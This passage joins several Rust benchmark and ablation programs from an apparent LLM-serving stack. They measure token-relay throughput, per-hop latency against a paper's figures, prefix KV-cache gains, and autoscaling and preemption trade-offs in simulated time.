    Request::new("POST", "/m/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_body(body.to_string().into_bytes())
}

fn mode_config(relay: bool, coalesce: bool) -> StreamingConfig {
    StreamingConfig {
        relay,
        coalesce: if coalesce {
            Duration::from_millis(4)
        } else {
            Duration::ZERO
        },
        coalesce_max_tokens: 8,
        // Keep the stall policy out of the measurement: the free-running
        // backend intentionally outpaces the chain.
        stall_buffer: 1_000_000,
        stall_timeout: Duration::from_secs(60),
        heartbeat: Duration::from_secs(30),
        ..Default::default()
    }
}

/// Run `streams` concurrent streams of `max_tokens` each to completion;
/// returns a JSON cell with throughput, allocation and pool counters.
fn run_throughput_cell(relay: bool, coalesce: bool, streams: usize, max_tokens: u64) -> Json {
    let chain = Chain::launch(Duration::ZERO, mode_config(relay, coalesce));
    let url = chain.gateway_http.url();

    // Warm the chain (SSH dial, routing, pools) outside the window.
    {
        let mut client = Client::new(&url);
        let _ = client.send_streaming(&stream_request(4), |_| {});
    }
    let tokens_before = chain.llm.engine.stats.tokens_generated.load(Ordering::Relaxed);
    let pool = relay_pool();
    let pool_allocs_before = pool.allocations();
    let pool_reuses_before = pool.reuses();
    let allocs_before = ALLOC_COUNT.load(Ordering::Relaxed);
    let t0 = Instant::now();

    let mut handles = Vec::new();
    for _ in 0..streams {
        let url = url.clone();
        handles.push(std::thread::spawn(move || {
            let mut client = Client::new(&url);
            let mut bytes = 0u64;
            let ok = client
                .send_streaming(&stream_request(max_tokens), |chunk| {
                    bytes += chunk.len() as u64;
                })
                .is_ok();
            (ok, bytes)
        }));
    }
    let mut delivered_bytes = 0u64;
    let mut completed = 0usize;
    for h in handles {
        if let Ok((ok, bytes)) = h.join() {
            delivered_bytes += bytes;
            completed += ok as usize;
        }
    }

    let elapsed = t0.elapsed().as_secs_f64();
    let allocs = ALLOC_COUNT.load(Ordering::Relaxed) - allocs_before;
    let tokens = chain
        .llm
        .engine
        .stats
        .tokens_generated
        .load(Ordering::Relaxed)
        - tokens_before;
    let pool_allocs = pool.allocations() - pool_allocs_before;
    let pool_reuses = pool.reuses() - pool_reuses_before;
    chain.shutdown();

    Json::obj()
        .set("relay", relay)
        .set("coalesce", coalesce)
        .set("streams", streams as u64)
        .set("completed", completed as u64)
        .set("tokens", tokens)
        .set("tokens_per_sec", tokens as f64 / elapsed.max(1e-9))
        .set("bytes_delivered", delivered_bytes)
        .set("allocations", allocs)
        .set(
            "allocs_per_token",
            allocs as f64 / (tokens.max(1)) as f64,
        )
        .set("pool_allocs", pool_allocs)
        .set("pool_reuses", pool_reuses)
        .set("elapsed_s", elapsed)
}

/// One paced stream: per-token added latency over the ideal decode time.
fn run_latency_cell(relay: bool, coalesce: bool, max_tokens: u64, step: Duration) -> Json {
    let chain = Chain::launch(step, mode_config(relay, coalesce));
    let url = chain.gateway_http.url();
    {
        let mut client = Client::new(&url);
        let _ = client.send_streaming(&stream_request(4), |_| {});
    }
    let mut client = Client::new(&url);
    let mut first_byte: Option<Duration> = None;
    let t0 = Instant::now();
    let _ = client.send_streaming(&stream_request(max_tokens), |_chunk| {
        if first_byte.is_none() {
            first_byte = Some(t0.elapsed());
        }
    });
    let elapsed = t0.elapsed();
    chain.shutdown();

    let ideal = step.as_secs_f64() * max_tokens as f64;
    let added_per_token_us =
        ((elapsed.as_secs_f64() - ideal).max(0.0) / max_tokens as f64) * 1e6;
    Json::obj()
        .set("relay", relay)
        .set("coalesce", coalesce)
        .set("tokens", max_tokens)
        .set("ttft_ms", first_byte.unwrap_or(elapsed).as_secs_f64() * 1e3)
        .set("added_latency_per_token_us", added_per_token_us)
        .set("elapsed_ms", elapsed.as_secs_f64() * 1e3)
}

fn find_cell(cells: &[Json], relay: bool, coalesce: bool, streams: u64) -> Option<&Json> {
    cells.iter().find(|c| {
        c.bool_field("relay") == Some(relay)
            && c.bool_field("coalesce") == Some(coalesce)
            && c.u64_field("streams") == Some(streams)
    })
}

fn cell_key(relay: bool, coalesce: bool) -> &'static str {
    match (relay, coalesce) {
        (true, true) => "relay+coalesce",
        (true, false) => "relay",
        (false, true) => "coalesce",
        (false, false) => "off",
    }
}

fn main() {
    let smoke = bench::smoke();
    let (max_tokens, lat_tokens) = if smoke { (48u64, 32u64) } else { (256u64, 96u64) };
    let stream_counts: &[usize] = &[1, 8, 64];
    let modes: &[(bool, bool)] = &[(false, false), (false, true), (true, false), (true, true)];

    println!("Ablation: zero-copy token relay (relay on/off x coalescing on/off)");
    println!(
        "chain: gateway -> hpc proxy -> ssh -> cloud interface -> llm server; \
         {max_tokens} tokens/stream, free-running decode\n"
    );
    println!(
        "{:>16} {:>8} {:>14} {:>14} {:>12} {:>12}",
        "mode", "streams", "tok/s", "allocs/tok", "pool_reuse", "completed"
    );

    let mut cells = Vec::new();
    for &(relay, coalesce) in modes {
        for &streams in stream_counts {
            let row = run_throughput_cell(relay, coalesce, streams, max_tokens);
            println!(
                "{:>16} {:>8} {:>14.0} {:>14.1} {:>12} {:>12}",
                cell_key(relay, coalesce),
                streams,
                row.f64_field("tokens_per_sec").unwrap_or(0.0),
                row.f64_field("allocs_per_token").unwrap_or(0.0),
                row.u64_field("pool_reuses").unwrap_or(0),
                row.u64_field("completed").unwrap_or(0),
            );
            cells.push(row);
        }
    }

    println!("\nlatency (1 paced stream, 3 ms decode step):");
    println!(
        "{:>16} {:>12} {:>22}",
        "mode", "ttft_ms", "added_us_per_token"
    );
    let mut latency = Vec::new();
    for &(relay, coalesce) in modes {
        let row = run_latency_cell(relay, coalesce, lat_tokens, Duration::from_millis(3));
        println!(
            "{:>16} {:>12.1} {:>22.1}",
            cell_key(relay, coalesce),
            row.f64_field("ttft_ms").unwrap_or(0.0),
            row.f64_field("added_latency_per_token_us").unwrap_or(0.0),
        );
        latency.push(row);
    }

    // Summary: the 64-stream cells are the capacity claim.
    let on = find_cell(&cells, true, true, 64);
    let off = find_cell(&cells, false, false, 64);
    let on_tps = on.and_then(|c| c.f64_field("tokens_per_sec")).unwrap_or(0.0);
    let off_tps = off.and_then(|c| c.f64_field("tokens_per_sec")).unwrap_or(0.0);
    let on_apt = on.and_then(|c| c.f64_field("allocs_per_token")).unwrap_or(0.0);
    let off_apt = off.and_then(|c| c.f64_field("allocs_per_token")).unwrap_or(0.0);
    let on_pool_allocs = on.and_then(|c| c.u64_field("pool_allocs")).unwrap_or(0);
    let on_pool_reuses = on.and_then(|c| c.u64_field("pool_reuses")).unwrap_or(0);
    let speedup = on_tps / off_tps.max(1e-9);
    let alloc_reduction = off_apt / on_apt.max(1e-9);
    let pool_reuse_ratio =
        on_pool_reuses as f64 / ((on_pool_allocs + on_pool_reuses).max(1)) as f64;

    println!("\n64-stream forwarded-token throughput: relay+coalesce {speedup:.2}x vs off");
    println!(
        "allocations/token: {off_apt:.1} (off) -> {on_apt:.1} (on), {alloc_reduction:.2}x fewer"
    );
    println!(
        "pool: {on_pool_allocs} fresh buffers vs {on_pool_reuses} reuses \
         ({:.1}% served from the pool -> O(1) amortized)",
        pool_reuse_ratio * 100.0
    );

    let summary = Json::obj()
        .set("relay_on_tokens_per_sec_64", on_tps)
        .set("relay_off_tokens_per_sec_64", off_tps)
        .set("relay_speedup_64", speedup)
        .set("allocs_per_token_relay_on", on_apt)
        .set("allocs_per_token_relay_off", off_apt)
        .set("alloc_reduction", alloc_reduction)
        .set("pool_reuse_ratio", pool_reuse_ratio);
    bench::emit_json(
        "ablation_relay",
        &Json::obj()
            .set("cells", cells)
            .set("latency", latency)
            .set("summary", summary),
    );
}
