//! Table 1 — latency per hop, from the ESX machine to the LLM's first
//! token. 50 probes per row (as in the paper), reported as aggregated
//! averages with per-hop differences.
//!
//! Paper (H100 testbed): probe local proxy 2.59 ms → +SSH cmd 10.54 →
//! +probe GPU node 5.30 → +LLM first token 32.63 ⇒ ~51 ms total.
//! Our testbed runs every hop on localhost; the WAN/SSH hop is injected
//! at the paper's measured cost so the *structure* matches.

use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::Stack;
use chat_ai::util::hist::Welford;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;

const PROBES: usize = 50;

fn measure(mut f: impl FnMut() -> bool) -> Welford {
    let mut w = Welford::new();
    for _ in 0..PROBES {
        let t0 = std::time::Instant::now();
        assert!(f(), "probe failed");
        w.add(t0.elapsed().as_secs_f64() * 1e3);
    }
    w
}

fn main() -> anyhow::Result<()> {
    chat_ai::util::logging::init();
    let stack = Stack::launch(StackConfig::demo())?; // 10ms SSH hop, like the paper
    anyhow::ensure!(stack.wait_ready(Duration::from_secs(180)), "not ready");
    let service = stack.config.services[0].name.clone();
    stack.gateway.add_api_key("t1", "bench");

    // Row 1: probe the local proxy on the ESX machine (gateway /metrics —
    // no HPC involvement).
    let mut gw = Client::new(&stack.gateway_url());
    let r1 = measure(|| gw.get("/metrics").map(|r| r.status == 200).unwrap_or(false));

    // Row 2: SSH command to the HPC service node (saia probe = routing
    // table status, no GPU-node hop).
    let proxy = stack.hpc_proxy.clone();
    let r2 = measure(|| proxy.probe().is_ok());

    // Row 3: probe the GPU node's health endpoint through the SSH chain.
    let r3 = measure(|| matches!(proxy.probe_service(&service), Ok(200)));

    // Row 4: first streamed token from the LLM through the full chain.
    let gateway = stack.gateway_url();
    let mut w4 = Welford::new();
    for _ in 0..PROBES {
        let mut client = Client::new(&gateway);
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "hi")],
            )
            .set("max_tokens", 4u64)
            .set("stream", true);
        let req = Request::new("POST", &format!("/{service}/v1/chat/completions"))
            .with_header("x-api-key", "t1")
            .with_body(body.to_string().into_bytes());
        let t0 = std::time::Instant::now();
        let mut first: Option<f64> = None;
        client.send_streaming(&req, |_| {
            first.get_or_insert(t0.elapsed().as_secs_f64() * 1e3);
        })?;
        w4.add(first.unwrap_or(t0.elapsed().as_secs_f64() * 1e3));
    }

    println!("\nTable 1: Latency measurements from the ESX machine ({PROBES} probes/row)");
    println!("{:-<78}", "");
    println!(
        "{:<18} {:<22} {:>16} {:>10}",
        "Component", "Operation", "Agg.Avg(std) ms", "Diff ms"
    );
    println!("{:-<78}", "");
    let rows = [
        ("ESX Machine", "Probe local proxy", &r1),
        ("HPC Service Node", "SSH Command", &r2),
        ("HPC Service Node", "Probe GPU node", &r3),
        ("HPC GPU Node", "LLM First Token", &w4),
    ];
    let paper = [2.59, 13.12, 18.43, 51.06];
    let mut prev = 0.0;
    for ((component, op, w), paper_ms) in rows.iter().zip(paper) {
        println!(
            "{:<18} {:<22} {:>9.2} ({:.2}) {:>10.2}   [paper: {:.2}]",
            component,
            op,
            w.mean(),
            w.std(),
            w.mean() - prev,
            paper_ms
        );
        prev = w.mean();
    }
    println!("{:-<78}", "");
    println!(
        "architecture overhead (total − LLM compute): {:.2} ms  [paper: ~23 ms]",
        w4.mean() - (w4.mean() - r3.mean())
    );
    stack.shutdown();
    Ok(())
}
