//! Ablation: prefix-aware KV cache on vs off.
//!
//! Three workloads, one claim each:
//!
//! 1. **Shared system prompt** — N concurrent requests share a long
//!    system prefix. With the cache ON the prefix is prefilled exactly
//!    once; every later admission attaches the same physical blocks.
//!    Claim: fewer prefill tokens computed AND higher end-to-end
//!    tokens/sec.
//! 2. **Multi-turn chat** — one conversation whose prompt grows by the
//!    previous answer each turn. With the cache ON each turn re-prefills
//!    only the new tail, not the whole history (O(T) instead of O(T²)
//!    prefill tokens over T turns).
//! 3. **KV pressure** — more concurrent growth than the block budget
//!    holds. The old engine killed streams with "KV budget exhausted";
//!    the new engine preempts the youngest sequence and recomputes it
//!    later from its (likely still cached) prefix. Claim: every request
//!    completes, zero errors, preemptions > 0.
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::sync::mpsc::{sync_channel, Receiver};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{
    tokenizer, Backend, Engine, EngineConfig, EngineTuning, GenEvent, GenRequest, PerfProfile,
    SamplingParams, SimBackend,
};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::CancelToken;
use chat_ai::workload::bench;

/// An analytic profile where prompt processing dominates — the regime
/// conversational serving actually lives in (long contexts, short
/// answers).
fn prefill_heavy_profile() -> PerfProfile {
    PerfProfile {
        name: "prefill-heavy".into(),
        step_base_ms: 5.0,
        step_per_seq_ms: 0.2,
        prefill_ms: 40.0, // per 32 uncached tokens
        max_batch: 8,
        max_seq: 4096,
    }
}

fn submit(engine: &Engine, tokens: Vec<i32>, max_tokens: usize) -> Receiver<GenEvent> {
    let (tx, rx) = sync_channel(max_tokens + 16);
    let accepted = engine.submit(GenRequest {
        prompt_tokens: tokens,
        max_tokens,
        sampling: SamplingParams::default(),
        events: tx,
        cancel: CancelToken::new(),
        tenant: "bench".into(),
        priority: Default::default(),
        trace: None,
    });
    assert!(accepted, "engine rejected submission");
    rx
}

/// Drain a stream to its terminal event: (token ids, errored?).
fn drain(rx: &Receiver<GenEvent>) -> (Vec<i32>, bool) {
    let mut toks = Vec::new();
    loop {
        match rx.recv_timeout(Duration::from_secs(120)) {
            Ok(GenEvent::Token { id, .. }) => toks.push(id),
            Ok(GenEvent::Done { .. }) => return (toks, false),
            Ok(GenEvent::Error(_)) => return (toks, true),
            Err(e) => panic!("stream stalled: {e}"),
        }
    }
}

fn stats_row(engine: &Engine, prefix_cache: bool, elapsed: f64, errors: usize) -> Json {
    use std::sync::atomic::Ordering::Relaxed;
    let s = &engine.stats;
    Json::obj()
        .set("prefix_cache", prefix_cache)
        .set("errors", errors as u64)
        .set("elapsed_s", elapsed)
        .set("prefill_tokens", s.prefill_tokens.load(Relaxed))
        .set("prefill_tokens_saved", s.prefill_tokens_saved.load(Relaxed))
        .set("prefix_hits", s.prefix_hits.load(Relaxed))
        .set("blocks_shared", s.blocks_shared.load(Relaxed))
        .set("tokens_generated", s.tokens_generated.load(Relaxed))
        .set(
            "tokens_per_sec",
            s.tokens_generated.load(Relaxed) as f64 / elapsed,
        )
}

/// Workload 1: N concurrent requests, one long shared system prompt.
fn run_shared_prompt(prefix_cache: bool, n: usize, sys_tokens: usize) -> Json {
    let backend = Arc::new(SimBackend::new(prefill_heavy_profile()));
    let config = EngineConfig::for_backend_tuned(
        backend.as_ref(),
        &EngineTuning {
            prefix_cache,
            ..EngineTuning::default()
        },
    );
    let engine = Engine::start(backend, config);
    let system: Vec<i32> = (0..sys_tokens as i32).map(|i| (i % 200) + 1).collect();
    let t0 = Instant::now();
    let rxs: Vec<Receiver<GenEvent>> = (0..n)
        .map(|r| {
            let mut tokens = system.clone();
            // Per-request unique suffix (the user's actual question).
            tokens.extend((0..8).map(|i| 300 + ((r * 8 + i) % 200) as i32));
            submit(&engine, tokens, 12)
        })
        .collect();
    let mut errors = 0usize;
    for rx in &rxs {
        let (_, err) = drain(rx);
        errors += usize::from(err);
    }
    let elapsed = t0.elapsed().as_secs_f64();
    let row = stats_row(&engine, prefix_cache, elapsed, errors);
    engine.stop();
    row
}

/// Workload 2: one growing conversation, `turns` rounds.
fn run_multi_turn(prefix_cache: bool, turns: usize) -> Json {
    let backend = Arc::new(SimBackend::new(prefill_heavy_profile()));
    let config = EngineConfig::for_backend_tuned(
        backend.as_ref(),
        &EngineTuning {
            prefix_cache,
            ..EngineTuning::default()
        },
    );
    let engine = Engine::start(backend, config);
    let mut history = tokenizer::encode("system: you are chat-ai, a terse assistant.");
    let t0 = Instant::now();
    let mut errors = 0usize;
    for t in 0..turns {
        let user = tokenizer::encode(&format!(
            "\nuser: question number {t}, with enough words to fill a line.\nassistant: "
        ));
        history.extend_from_slice(&user[1..]); // strip BOS on continuation
        let rx = submit(&engine, history.clone(), 12);
        let (answer, err) = drain(&rx);
        errors += usize::from(err);
        history.extend(answer); // next turn's prompt includes the answer
    }
    let elapsed = t0.elapsed().as_secs_f64();
    let row = stats_row(&engine, prefix_cache, elapsed, errors)
        .set("turns", turns as u64)
        .set("final_context_tokens", history.len() as u64);
    engine.stop();
    row
}

/// A model that never EOSes: generation ends only via max_tokens, so KV
/// growth is deterministic and pressure is certain.
struct PressureBackend {
    step: Duration,
}

impl PressureBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for PressureBackend {
    fn max_batch(&self) -> usize {
        8
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        std::thread::sleep(self.step);
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

/// Workload 3: concurrent growth exceeding the block budget. The
/// pre-preemption engine deterministically emitted "KV budget exhausted"
/// errors here; the new one parks and recomputes.
fn run_pressure(smoke: bool) -> Json {
    let backend = Arc::new(PressureBackend {
        step: Duration::from_millis(2),
    });
    let (kv_blocks, m, max_tokens) = if smoke { (24, 6, 48) } else { (48, 8, 96) };
    let config = EngineConfig {
        kv_blocks,
        kv_block_size: 16,
        growth_watermark: 0, // no admission headroom: force mid-decode pressure
        ..EngineConfig::for_backend(backend.as_ref())
    };
    let engine = Engine::start(backend, config);
    let prompt: Vec<i32> = (1..=32).collect();
    let t0 = Instant::now();
    let rxs: Vec<Receiver<GenEvent>> = (0..m)
        .map(|_| submit(&engine, prompt.clone(), max_tokens))
        .collect();
    let mut errors = 0usize;
    let mut completed = 0usize;
    let mut short_streams = 0usize;
    for rx in &rxs {
        let (toks, err) = drain(rx);
        errors += usize::from(err);
        completed += usize::from(!err);
        short_streams += usize::from(toks.len() < max_tokens);
    }
    let elapsed = t0.elapsed().as_secs_f64();
    use std::sync::atomic::Ordering::Relaxed;
    let s = &engine.stats;
    let row = Json::obj()
        .set("requests", m as u64)
        .set("kv_blocks", kv_blocks as u64)
        .set("max_tokens", max_tokens as u64)
        .set("completed", completed as u64)
        .set("errors", errors as u64)
        .set("truncated_streams", short_streams as u64)
        .set("preemptions", s.preemptions.load(Relaxed))
        .set("tokens_recomputed", s.tokens_recomputed.load(Relaxed))
        .set("prefill_tokens_saved", s.prefill_tokens_saved.load(Relaxed))
        .set("all_completed_via_preemption", errors == 0 && s.preemptions.load(Relaxed) > 0)
        .set("elapsed_s", elapsed);
    engine.stop();
    row
}

fn print_pair(name: &str, on: &Json, off: &Json) {
    for row in [on, off] {
        println!(
            "{name:>14} cache={:<5} prefill_tokens={:>7} saved={:>7} tok/s={:>8.1} errors={}",
            if row.bool_field("prefix_cache").unwrap_or(false) { "on" } else { "off" },
            row.u64_field("prefill_tokens").unwrap_or(0),
            row.u64_field("prefill_tokens_saved").unwrap_or(0),
            row.f64_field("tokens_per_sec").unwrap_or(0.0),
            row.u64_field("errors").unwrap_or(0),
        );
    }
}

fn main() {
    let smoke = bench::smoke();
    let (n, sys_tokens) = if smoke { (6, 128) } else { (16, 384) };
    let turns = if smoke { 4 } else { 8 };

    println!("Ablation: prefix-aware KV cache (3 workloads, cache on vs off)");
    println!(
        "shared-prompt: {n} requests × ({sys_tokens} shared + 8 unique) prompt tokens; \
         multi-turn: {turns} turns; pressure: over-committed KV budget\n"
    );

    let shared_on = run_shared_prompt(true, n, sys_tokens);
    let shared_off = run_shared_prompt(false, n, sys_tokens);
    print_pair("shared-prompt", &shared_on, &shared_off);
    let prefill_on = shared_on.u64_field("prefill_tokens").unwrap_or(1).max(1);
    let prefill_off = shared_off.u64_field("prefill_tokens").unwrap_or(0);
    let tps_on = shared_on.f64_field("tokens_per_sec").unwrap_or(0.0);
    let tps_off = shared_off.f64_field("tokens_per_sec").unwrap_or(1.0).max(1e-9);
    let prefill_ratio = prefill_off as f64 / prefill_on as f64;
    let speedup = tps_on / tps_off;
    println!(
        "  → cache ON computes {prefill_ratio:.2}x fewer prefill tokens, \
         serves {speedup:.2}x more tokens/sec\n"
    );

    let turn_on = run_multi_turn(true, turns);
    let turn_off = run_multi_turn(false, turns);
    print_pair("multi-turn", &turn_on, &turn_off);
    println!(
        "  → a growing chat re-prefills only its tail with the cache ON\n"
    );

    let pressure = run_pressure(smoke);
    println!(
        "{:>14} completed={}/{} errors={} preemptions={} tokens_recomputed={}",
        "kv-pressure",
        pressure.u64_field("completed").unwrap_or(0),
        pressure.u64_field("requests").unwrap_or(0),
        pressure.u64_field("errors").unwrap_or(0),
        pressure.u64_field("preemptions").unwrap_or(0),
        pressure.u64_field("tokens_recomputed").unwrap_or(0),
    );
    println!(
        "  → the pre-preemption engine emitted \"KV budget exhausted\" here;\n\
         \x20   preempt-and-recompute completes every stream instead"
    );

    bench::emit_json(
        "ablation_prefix_cache",
        &Json::obj()
            .set(
                "shared_prompt",
                Json::obj()
                    .set("on", shared_on)
                    .set("off", shared_off)
                    .set("prefill_tokens_ratio_off_over_on", prefill_ratio)
                    .set("tokens_per_sec_speedup_on_vs_off", speedup),
            )
            .set(
                "multi_turn",
                Json::obj().set("on", turn_on).set("off", turn_off),
            )
            .set("kv_pressure", pressure),
    );
}
