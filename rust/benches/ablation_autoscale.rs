//! Ablation: autoscaling policy (threshold × scale-down policy × keepalive
//! cadence) against a bursty demand trace in virtual time. Reports GPU-
//! hours consumed and demand-coverage — the §7.1.1 trade-off (fast scale
//! up vs resources held).
//!
//! Runs entirely in virtual time (deterministic), so the smoke-mode JSON
//! artifact (`CHAT_AI_BENCH_JSON`) is stable enough for the CI baseline
//! gate; smoke trims the config matrix, not the trace.

use std::sync::{Arc, Mutex};

use chat_ai::scheduler::{
    DemandTracker, InstanceLauncher, RoutingTable, ScaleDownPolicy, ServiceConfig,
    ServiceScheduler,
};
use chat_ai::slurm::{JobId, JobSpec, JobState, Resources, Slurmctld};
use chat_ai::util::clock::{Clock, SimClock};
use chat_ai::util::json::Json;
use chat_ai::workload::bench;

struct FastLauncher {
    probes_until_ready: u32,
    probes: Mutex<std::collections::HashMap<JobId, u32>>,
    counter: std::sync::atomic::AtomicU64,
}

impl InstanceLauncher for FastLauncher {
    fn launch(&self, _s: &ServiceConfig, _j: JobId, _n: &str, _p: u16) {}
    fn probe(&self, job: JobId) -> Option<std::net::SocketAddr> {
        let mut m = self.probes.lock().unwrap();
        let n = m.entry(job).or_insert(0);
        *n += 1;
        (*n >= self.probes_until_ready).then(|| {
            let p = self.counter.fetch_add(1, std::sync::atomic::Ordering::Relaxed) as u16;
            std::net::SocketAddr::from(([127, 0, 0, 1], 10000 + p))
        })
    }
    fn stop(&self, _j: JobId) {}
}

/// Bursty demand trace: 30min idle, 1h at 20 concurrent, 30min idle,
/// 30min at 40, long tail idle.
fn demand_at(t_min: u64) -> u64 {
    match t_min {
        0..=29 => 1,
        30..=89 => 20,
        90..=119 => 2,
        120..=149 => 40,
        _ => 1,
    }
}

fn run(policy: ScaleDownPolicy, target_concurrency: f64, cold_start_probes: u32) -> (f64, f64) {
    let clock = SimClock::new();
    let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), 10)));
    let routing = Arc::new(RoutingTable::new());
    let demand = Arc::new(DemandTracker::new(60_000));
    let launcher = Arc::new(FastLauncher {
        probes_until_ready: cold_start_probes,
        probes: Mutex::new(Default::default()),
        counter: Default::default(),
    });
    let config = ServiceConfig {
        max_instances: 8,
        target_concurrency,
        scale_down: policy,
        time_limit: 3_600_000,
        renew_margin: 300_000,
        min_instances: 1,
        ..ServiceConfig::new("svc", "llama3-70b", 2)
    };
    let scheduler = ServiceScheduler::new(
        vec![config],
        ctld.clone(),
        routing.clone(),
        demand.clone(),
        clock.clone(),
        launcher,
        3,
    );

    let mut gpu_ms = 0f64;
    let mut covered = 0f64;
    let mut demand_total = 0f64;
    let mut in_flight = 0u64;
    let total_min = 240u64;
    for t_min in 0..total_min {
        let want = demand_at(t_min);
        // adjust synthetic in-flight load to the trace
        while in_flight < want {
            demand.begin("svc", clock.now_ms());
            in_flight += 1;
        }
        while in_flight > want {
            demand.end("svc", clock.now_ms());
            in_flight -= 1;
        }
        // 12 scheduler runs per minute (5s keepalive)
        for _ in 0..12 {
            scheduler.run();
            clock.advance_by(5_000);
        }
        let (total_gpus, free) = ctld.lock().unwrap().gpu_utilization();
        gpu_ms += ((total_gpus - free) as f64) * 60_000.0;
        let (_, ready) = routing.counts("svc");
        // coverage: capacity (ready × target) vs demand
        let capacity = ready as f64 * target_concurrency;
        demand_total += want as f64;
        covered += (want as f64).min(capacity);
    }
    (gpu_ms / 3_600_000.0, covered / demand_total)
}

/// Outcome of one preemption-storm run (gap harvesting on or off).
struct StormOutcome {
    /// Service demand-coverage over the whole trace.
    coverage: f64,
    /// Slowest batch job's submit→end latency (minutes); unfinished batch
    /// work counts as still running at trace end.
    batch_makespan_min: f64,
    /// Service jobs killed-and-requeued by preemption (scheduler stat).
    requeues: u64,
    preemption_notices: u64,
    walltime_warnings: u64,
    /// Fraction of requeued service jobs that were restarted (not still
    /// stuck Pending) by trace end.
    requeue_success: f64,
    /// Queueing-wait p99 proxy: demand is sampled per minute, so an
    /// uncovered request waits a full minute bucket; p99 is 60 s as soon
    /// as >1% of request-minutes were uncovered, else ~0.
    p99_ttft_ms: f64,
    /// Cluster GPU-hour utilization (busy / total) over the trace.
    gpu_hour_util: f64,
}

/// Preemption-storm drill: a fixed 4-instance service (8 of 24 GPUs) holds
/// 2 nodes; at t=31 min a 5-job batch storm (4 GPUs each) wants 20 GPUs.
/// Four batch jobs fill the free nodes; the fifth needs a node the service
/// occupies. With gap harvesting *on* the service jobs are preemptible:
/// the blocked batch job evicts one node's instances (PreemptionNotice,
/// grace, requeue-at-front) and starts within minutes. With it *off* the
/// batch job can only wait for a sibling to finish — the service keeps all
/// its capacity but the cluster delivers the batch GPU-hours much later.
fn run_storm(harvest: bool) -> StormOutcome {
    let clock = SimClock::new();
    let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), 6)));
    let routing = Arc::new(RoutingTable::new());
    let demand = Arc::new(DemandTracker::new(60_000));
    let launcher = Arc::new(FastLauncher {
        probes_until_ready: 2,
        probes: Mutex::new(Default::default()),
        counter: Default::default(),
    });
    let config = ServiceConfig {
        min_instances: 4,
        max_instances: 4, // fixed size: isolate preemption from autoscaling
        target_concurrency: 4.0,
        time_limit: 3_600_000,
        renew_margin: 300_000,
        grace: if harvest { 120_000 } else { 0 },
        gap_walltime: if harvest { 1_800_000 } else { 0 },
        standby: if harvest { 1 } else { 0 },
        ..ServiceConfig::new("svc", "llama3-70b", 2)
    };
    let scheduler = ServiceScheduler::new(
        vec![config],
        ctld.clone(),
        routing.clone(),
        demand.clone(),
        clock.clone(),
        launcher,
        7,
    );

    // Steady 16 concurrent requests → exactly the 4 configured instances.
    for _ in 0..16 {
        demand.begin("svc", clock.now_ms());
    }
    let mut batch_ids: Vec<JobId> = Vec::new();
    let mut gpu_ms_busy = 0f64;
    let mut gpu_ms_total = 0f64;
    let mut demand_total = 0f64;
    let mut covered = 0f64;
    let mut uncovered = 0f64;
    for t_min in 0..120u64 {
        if t_min == 31 {
            let mut ctld = ctld.lock().unwrap();
            for i in 0..5 {
                batch_ids.push(ctld.sbatch(JobSpec::batch(
                    &format!("storm-batch-{i}"),
                    Resources {
                        cpus: 8,
                        gpus: 4,
                        mem_mb: 64_000,
                    },
                    1_200_000, // 20 min of work
                    1_800_000,
                )));
            }
        }
        // 12 scheduler runs per minute (5 s keepalive)
        for _ in 0..12 {
            scheduler.run();
            clock.advance_by(5_000);
        }
        let (total_gpus, free) = ctld.lock().unwrap().gpu_utilization();
        gpu_ms_busy += ((total_gpus - free) as f64) * 60_000.0;
        gpu_ms_total += (total_gpus as f64) * 60_000.0;
        let (_, ready) = routing.counts("svc");
        let want = 16f64;
        let capacity = ready as f64 * 4.0;
        demand_total += want;
        covered += want.min(capacity);
        uncovered += (want - capacity).max(0.0);
    }

    let ctld = ctld.lock().unwrap();
    let now = ctld.now();
    let batch_makespan_min = batch_ids
        .iter()
        .filter_map(|id| ctld.job(*id))
        .map(|j| (j.ended_at.unwrap_or(now).saturating_sub(j.submitted_at)) as f64 / 60_000.0)
        .fold(0.0, f64::max);
    let requeues = scheduler
        .stats
        .requeues
        .load(std::sync::atomic::Ordering::Relaxed);
    let stuck = ctld
        .squeue()
        .iter()
        .filter(|j| j.requeued && j.state == JobState::Pending && j.spec.name.starts_with("svc-"))
        .count() as f64;
    StormOutcome {
        coverage: covered / demand_total,
        batch_makespan_min,
        requeues,
        preemption_notices: scheduler
            .stats
            .preemption_notices
            .load(std::sync::atomic::Ordering::Relaxed),
        walltime_warnings: scheduler
            .stats
            .walltime_warnings
            .load(std::sync::atomic::Ordering::Relaxed),
        requeue_success: 1.0 - stuck / (requeues as f64).max(1.0),
        p99_ttft_ms: if uncovered / demand_total.max(1.0) > 0.01 {
            60_000.0
        } else {
            0.0
        },
        gpu_hour_util: gpu_ms_busy / gpu_ms_total.max(1.0),
    }
}

/// Burst trace for the warm-standby ablation: demand steps 4 → 32 over
/// 15 minutes, holds, then falls back.
fn burst_demand_at(t_min: u64) -> u64 {
    match t_min {
        0..=29 => 4,
        30..=34 => 8,
        35..=39 => 16,
        40..=44 => 24,
        45..=69 => 32,
        _ => 8,
    }
}

/// Warm-standby ablation: same bursty ramp with a slow (2 min) cold start;
/// `standby = 1` holds one extra instance hot while the demand slope EMA
/// is positive, so each ramp step starts from warmer capacity. Returns
